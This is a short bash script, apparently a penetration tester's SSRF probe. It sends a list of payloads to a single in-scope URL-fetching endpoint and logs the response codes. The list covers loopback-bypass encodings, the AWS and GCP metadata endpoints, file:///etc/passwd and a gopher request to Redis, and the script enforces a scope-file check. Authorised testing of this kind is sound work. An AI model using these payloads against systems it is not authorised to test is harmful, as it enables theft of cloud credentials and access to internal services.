#!/usr/bin/env bash
# Send the SSRF checklist payloads to ONE in-scope URL-fetching endpoint and record the responses.
# usage: ssrf_probe.sh "<endpoint with url param at the end>" scope.txt [oob_base]
set -euo pipefail

endpoint="${1:?endpoint, e.g. https://staging.acme.example/api/preview?url=}"
scope_file="${2:?scope file with one in-scope hostname per line}"
oob="${3:-http://10.0.5.20:8081}"

host=$(printf '%s' "$endpoint" | sed -E 's#^[a-z]+://([^/:?]+).*#\1#')
if ! grep -qxF "$host" "$scope_file"; then
  echo "refusing: $host is not listed in $scope_file" >&2
  exit 2
fi

payloads=(
  "$oob/ssrf-baseline"
  "http://127.0.0.1/"
  "http://localhost:8080/"
  "http://[::1]/"
  "http://2130706433/"
  "http://0x7f000001/"
  "http://127.1/"
  "http://169.254.169.254/latest/meta-data/"
  "http://metadata.google.internal/computeMetadata/v1/"
  "file:///etc/passwd"
  "gopher://127.0.0.1:6379/_INFO"
  "http://$host@127.0.0.1/"
)

urlencode() { python3 -c 'import sys, urllib.parse; print(urllib.parse.quote(sys.argv[1], safe=""))' "$1"; }

printf 'payload\thttp_status\tbytes\tseconds\n'
for p in "${payloads[@]}"; do
  result=$(curl -s -o /dev/null -m 10 -w '%{http_code}\t%{size_download}\t%{time_total}' \
    -H "X-Pentest: authorised-ssrf-test" "${endpoint}$(urlencode "$p")" || true)
  printf '%s\t%s\n' "$p" "${result:-error}"
  sleep 1
done
